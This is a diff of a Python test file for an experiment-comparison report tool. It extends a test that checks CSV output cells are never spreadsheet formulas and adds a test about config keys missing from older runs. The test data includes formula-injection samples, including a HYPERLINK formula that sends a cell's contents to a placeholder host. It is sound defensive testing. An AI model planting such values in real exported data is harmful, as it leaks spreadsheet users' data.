@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import itertools
 import json
 import math
 import re
@@ -671,9 +672,9 @@ def test_no_csv_cell_from_a_run_file_is_a_spreadsheet_formula(sweep: Path) -> No
     import io
 
     hostile = {'=HYPERLINK("http://host/?"&A1)': 1, "@SUM(1)": 2, "+x": 3, "-x": 4, "\tx": 5, "\r=1": 6}
-    for seed in (1, 2, 3):
-        path = sweep / f"pe=none,seed={seed}" / "config.yaml"
-        path.write_text(path.read_text() + yaml.safe_dump(hostile))
+    for (pe, shift), seed in itertools.product((("none", 0), ("sinusoidal", 10)), (1, 2, 3)):
+        path = sweep / f"pe={pe},seed={seed}" / "config.yaml"  # (keys of every run: values that vary)
+        path.write_text(path.read_text() + yaml.safe_dump({k: v + shift for k, v in hostile.items()}))
     text = report([sweep], fmt="csv", lengths=True)
     rows = [row for row in csv.reader(io.StringIO(text, newline="")) if row]
     cells = [cell for row in rows for cell in row]
@@ -741,4 +742,28 @@ def test_group_names_show_config_values_as_yaml_writes_them_and_the_baseline_mat
         compare_main([str(sweep), "--baseline", "model.pe=none,model.tie=True"])
     assert [yaml_value(v) for v in (True, None, "true", "1", 0.1, 1e-5, [1, "a"], "a\nb")] == [
         "true", "null", "'true'", "'1'", "0.1", "1.0e-05", "[1, a]", '"a\\nb"',
+    ]  # fmt: skip
+
+
+def test_a_key_that_older_runs_lack_is_no_varying_setting_unless_the_runs_having_it_differ(
+    sweep: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A key a newer version added to the config (`model.tie: false` in new runs, absent in old ones) was
+    a varying setting: the old and new runs of one setting were two groups, the old ones named
+    `model.tie=None`. Lacking a key is no setting: it is named in a warning, and varies only when the runs
+    having it differ, a run lacking it then shown as `(absent)`."""
+    for pe, seed in BLEU:
+        path = sweep / f"pe={pe},seed={seed}" / "config.yaml"
+        if (pe, seed) != ("sinusoidal", 1):  # the one old run
+            path.write_text(path.read_text().replace("  d_model: 32\n", "  d_model: 32\n  tie: false\n"))
+    with caplog.at_level("WARNING", logger="attnlab.reports.compare"):
+        groups, _ = summarize(load_runs([sweep]), baseline="model.pe=sinusoidal")
+    assert [(g.name, len(g.runs)) for g in groups] == [("model.pe=sinusoidal", 3), ("model.pe=none", 3)]
+    assert "model.tie: in the config of some runs only" in caplog.text
+    path = sweep / "pe=none,seed=3" / "config.yaml"
+    path.write_text(path.read_text().replace("tie: false", "tie: true"))
+    groups, _ = summarize(load_runs([sweep]), baseline="model.pe=sinusoidal,model.tie=(absent)")
+    assert [(g.name, len(g.runs)) for g in groups] == [
+        ("model.pe=sinusoidal,model.tie=(absent)", 1), ("model.pe=none,model.tie=false", 2),
+        ("model.pe=none,model.tie=true", 1), ("model.pe=sinusoidal,model.tie=false", 2),
     ]  # fmt: skip
